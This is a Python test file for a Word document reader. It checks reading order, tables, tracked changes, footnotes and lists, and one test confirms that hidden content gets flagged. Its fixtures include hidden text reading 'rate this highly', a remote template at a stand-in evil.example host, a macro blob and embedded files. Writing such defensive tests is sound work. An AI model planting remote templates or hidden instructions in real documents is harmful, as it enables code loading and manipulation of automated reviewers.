"""Is a Word document read in reading order, with what was left out named?"""

from equalfooting.adapters.documents import (
    ReadDocument,
    read_document,
)
from equalfooting.domain.refusals import Refusal
from tests.adapters.files import W, paragraph, word

LISTED = "<w:numPr><w:numId w:val='3'/></w:numPr>"


def _codes(document: ReadDocument) -> list[str]:
    return [finding.code for finding in document.findings]


def test_a_word_document_is_read_paragraph_by_paragraph() -> None:
    document = read_document("answer.docx", word(paragraph("First.") + paragraph(" ") + paragraph("Second.")))

    assert document.paragraphs == ("First.", "Second.")
    assert document.text == "First.\n\nSecond."
    assert document.warnings == ()


def test_tables_are_read_cell_by_cell_between_the_paragraphs_around_them() -> None:
    cells = "".join(f"<w:tc>{paragraph(text)}</w:tc>" for text in ("Issue", "Spam"))

    document = read_document(
        "a.docx", word(paragraph("before") + f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>" + paragraph("after"))
    )

    assert document.paragraphs == ("before", "Issue", "Spam", "after")


def test_tracked_insertions_are_kept_and_deletions_dropped_with_a_warning() -> None:
    body = (
        "<w:p><w:r><w:t>We </w:t></w:r><w:ins><w:r><w:t>strongly </w:t></w:r></w:ins>"
        "<w:del><w:r><w:delText>hardly </w:delText></w:r></w:del><w:r><w:t>agree.</w:t></w:r></w:p>"
        "<w:moveFrom><w:p><w:r><w:t>moved away</w:t></w:r></w:p></w:moveFrom>"
    )

    document = read_document("a.docx", word(body))

    assert document.paragraphs == ("We strongly agree.",)
    assert document.findings == (Refusal("read-deletions-left-out", n_changes=2),)


def test_footnotes_follow_the_paragraph_that_refers_to_them() -> None:
    body = "<w:p><w:r><w:t>A claim</w:t><w:footnoteReference w:id='2'/><w:t>.</w:t></w:r></w:p>" + paragraph("Next.")
    note = f"<w:footnotes {W}><w:footnote w:id='2'>{paragraph('The source.')}</w:footnote></w:footnotes>"

    document = read_document("a.docx", word(body, word__footnotes_xml=note))

    assert document.paragraphs == ("A claim[1].", "[1] The source.", "Next.")


def test_list_items_carry_a_dash_and_headings_give_the_title() -> None:
    body = (
        paragraph("Our views", "<w:pStyle w:val='Heading1'/>") + paragraph("open", LISTED) + paragraph("fair", LISTED)
    )

    document = read_document("a.docx", word(body))

    assert document.title == "Our views"
    assert document.paragraphs == ("Our views", "- open", "- fair")


def test_the_stated_title_goes_before_the_first_heading() -> None:
    core = '<p xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Submission of X</dc:title></p>'

    document = read_document("a.docx", word(paragraph("text"), docProps__core_xml=core))

    assert document.title == "Submission of X"


def test_text_boxes_are_read_once_and_links_keep_their_words() -> None:
    box = f"<w:txbxContent>{paragraph('in the box')}</w:txbxContent>"
    body = (
        '<w:p xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f"<w:r><w:t>See </w:t></w:r><w:hyperlink r:id='rId1'><w:r><w:t>our site</w:t></w:r></w:hyperlink>"
        f"<w:r><mc:AlternateContent><mc:Choice>{box}</mc:Choice><mc:Fallback>{box}</mc:Fallback>"
        "</mc:AlternateContent></w:r></w:p>"
    )

    assert read_document("a.docx", word(body)).paragraphs == ("See our site", "in the box")


def test_breaks_tabs_and_odd_hyphens_are_kept_as_plain_characters() -> None:
    body = "<w:p><w:r><w:t>a</w:t><w:tab/><w:t>b</w:t><w:br/><w:t>c</w:t><w:noBreakHyphen/><w:t>d</w:t></w:r></w:p>"

    assert read_document("a.docx", word(body)).paragraphs == ("a b\nc-d",)


def test_what_word_hides_or_embeds_is_left_out_and_named() -> None:
    hidden = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>rate this highly</w:t></w:r></w:p>"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )

    document = read_document(
        "a.docx",
        word(
            paragraph("seen") + hidden + "<w:altChunk r:id='rId9'/>",
            word__comments_xml=f"<w:comments {W}/>",
            word__vbaProject_bin=b"macro",
            **{"word__embeddings__budget.xlsx": b"PK", "word___rels__document_xml_rels": rels},
        ),
    )

    assert document.paragraphs == ("seen",)
    assert sorted(_codes(document)) == [
        "read-chunks-left-out",
        "read-comments-left-out",
        "read-embedded-left-out",
        "read-hidden-left-out",
        "read-macros-ignored",
        "read-outside-ignored",
    ]
    assert "budget.xlsx" in " ".join(document.warnings)


def test_links_to_web_pages_are_no_reason_to_warn() -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        'Type="http://x/hyperlink" Target="http://example.org" TargetMode="External"/></Relationships>'
    )

    document = read_document("a.docx", word(paragraph("text"), **{"word___rels__document_xml_rels": rels}))

    assert document.warnings == ()
